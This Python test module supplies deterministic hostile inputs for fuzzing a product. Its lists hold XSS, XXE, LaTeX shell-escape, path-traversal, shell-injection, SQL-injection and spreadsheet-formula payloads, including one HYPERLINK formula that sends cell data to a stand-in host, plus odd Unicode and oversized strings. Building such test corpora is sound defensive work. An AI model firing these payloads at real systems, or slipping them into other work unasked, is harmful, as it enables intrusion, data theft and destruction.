"""What somebody might type or send to break the product: the same thousands of texts on every run."""

from __future__ import annotations

import random
from collections.abc import Iterable, Iterator
from itertools import islice

MARKUP = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><foreignObject><iframe src=javascript:alert(1)>",
    '"><svg/onload=alert(1)>',
    "</text></svg><script>alert(1)</script>",
    "</title></desc></style><script>x</script>",
    "]]><script>alert(1)</script><![CDATA[",
    "<!--",
    "--><b>",
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
    '<!DOCTYPE r [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><r>&b;</r>',
    '<xi:include href="file:///etc/passwd"/>',
    "<w:p><w:r><w:t>x</w:t></w:r></w:p>",
    "&lt;script&gt; &amp;amp; &#x3c;b&#62; &nbsp; &unknown;",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import url(//elsewhere.example/x.css)</style>",
    "{{7*7}} ${7*7} #{7*7} <%= 7*7 %> {% raw %}",
)
MARKDOWN = (
    "![x](https://elsewhere.example/pixel.png)",
    "[press](javascript:alert(1))",
    "# Heading\n\n- item\n\n| a | b |\n|--|--|\n",
    "`code` **bold** _lean_ ~~gone~~ $x^2$ :red[x] :material/bug_report:",
    "[x]: https://elsewhere.example 'title'",
    "<https://elsewhere.example>",
    "\\*not\\* &copy; :smile:",
)
TYPST = (
    '#read("/etc/passwd")',
    '#import "@preview/cetz:0.2.2": *',
    '#eval("1+1")',
    "#set page(width: 1pt)",
    '#image("/etc/passwd")',
    "#for x in range(99999999) [x]",
    '"); #panic("x',
    "$ sum_(k=1)^n $ @label <label> ~ --- /* */ // x",
    '#sys.inputs.at("data")',
    "\\u{41} \\# *b* _i_ `raw`",
    '#plugin("x.wasm")',
)
LATEX = (
    "\\input{/etc/passwd}",
    "\\write18{id}",
    "\\def\\x{\\x\\x}\\x",
    "$$\\frac{1}{0}$$ % comment",
    "\\begin{document}\\end{document}",
    "^^5cinput",
)
FORMULAS = (
    "=1+1",
    '=HYPERLINK("https://elsewhere.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
    "\x00=1+1",
    "\u2003-1+1",
    "\u3000＝1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "﹦1+1",
    "﹢1",
    "﹣1",
    "﹫x",
    "'=1+1",
    '"=1+1',
    '";=1+1;"',
    "x\n=1+1",
    'x",=1+1,"',
    "|=1+1",
    "%=1+1",
    "\u2212" + "1+1",
)
PATHS = (
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "/etc/passwd",
    "C:\\Windows\\win.ini",
    "\\\\server\\share",
    "file:///etc/passwd",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "..%c0%af..%c0%afetc",
    "....//....//etc/passwd",
    "name.csv\x00.json",
    "CON",
    "aux.txt",
    "-rf",
    "--output=/tmp/x",
    "~root",
    "$(id)",
    "`id`",
    "; rm -rf x",
    "| id",
    "a\nb",
    "." * 300,
)
ODD = (
    "\u202eevil\u202c",
    "\u2066left\u2069\u2067right\u2069",
    "\u200f\u200e\u061c",
    "\u200b\u200c\u200d\ufeff\u2060",
    "\x00\x01\x02\x07\x08\x0b\x0c\x1b[31mred\x1b[0m\x7f\x85\x9f",
    "\ud800",
    "\udfff\ud800",
    "x\udc80y",
    "\ufffe\uffff\U0010ffff",
    "\ue000\U000f0000",
    "\U000e0041\U000e0042\U000e007f",
    "e" + "\u0301" * 60,
    "Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢L̠ͨͧͩ͘G̴̻͈͍͔̹̑͗̎̅͛́Ǫ̵̹̻̝̳͂̌̌͘!͖̬̰̙̗̿̋ͥͥ̂ͣ̐́́͜͞",
    "👩‍👩‍👧‍👦🏴󠁧󠁢󠁷󠁬󠁳󠁿👍🏿",
    "مجلس المدينة والخدمات",
    "Ψηφιακή ετοιμότητα",
    "市議会の広報",
    "ﷺ﷽",
    "İıŞşß ſ ŉ ǆ",
    "\u2028\u2029",
    "\u0000",
    "𝒮𝓊𝓇𝓇𝑒𝓎",
    "１２３４ ٣٤ ५६",
    "½ ² ₂ Ⅷ ①",
    "nan",
    "None",
    "null",
    "NaN",
    "Infinity",
    "1e999",
    "-0",
    "true",
    "__proto__",
    "constructor",
    "__class__",
    "{0.__class__.__mro__}",
    "%s%n%x%d",
    "' OR 1=1 --",
)
HUGE = (
    "A" * 50_000,
    "<b>" * 10_000,
    "=" * 20_000,
    "\u0301" * 20_000,
    " " * 50_000,
    "ab\n" * 20_000,
    "\U0001f600" * 9_000,
)
SMALL = (*MARKUP, *MARKDOWN, *TYPST, *LATEX, *FORMULAS, *PATHS, *ODD)
BEFORE = ("", "", "", " ", "\t", "\u00a0", "\u200b", "\u202e", "Council ", "'", '"', "\n", "1")
AFTER = ("", "", "", " ", " Council", "\x00", "\ud834", "\u202c", '"', "'", "\\", ".", ")")


def texts(count: int, seed: str) -> Iterator[str]:
    """Hostile texts: each as it is, then mixed; the seed makes two tests try different ones."""
    yield from SMALL[:count]
    yield from HUGE[: max(0, count - len(SMALL))]
    chance = random.Random(seed)
    for _ in range(count - len(SMALL) - len(HUGE)):
        yield _mixed(chance)


def _mixed(chance: random.Random) -> str:
    parts = [chance.choice(SMALL) for _ in range(chance.randint(1, 3))]
    text = chance.choice(BEFORE) + chance.choice(("", " ", "\n", ",", ";")).join(parts) + chance.choice(AFTER)
    turn = chance.randrange(8)
    if turn == 0:
        text = text.upper()
    elif turn == 1:
        text = text * chance.randint(2, 40)
    elif turn == 2:
        cut = chance.randrange(len(text) + 1)
        text = text[:cut] + chr(chance.choice((0, 9, 13, 0x202E, 0xD800, 0x301, 0x1F600))) + text[cut:]
    return text


def sendable(text: str) -> str:
    """The text as a browser or a file can carry it: without half characters."""
    return text.encode("utf-8", "replace").decode()


def as_bytes(text: str) -> bytes:
    """The text as a file may hold it, lone surrogates and all."""
    return text.encode("utf-8", "surrogatepass")


def groups(items: Iterable[str], size: int) -> Iterator[tuple[str, ...]]:
    """The items in groups of a size; the last may be smaller."""
    rest = iter(items)
    while group := tuple(islice(rest, size)):
        yield group
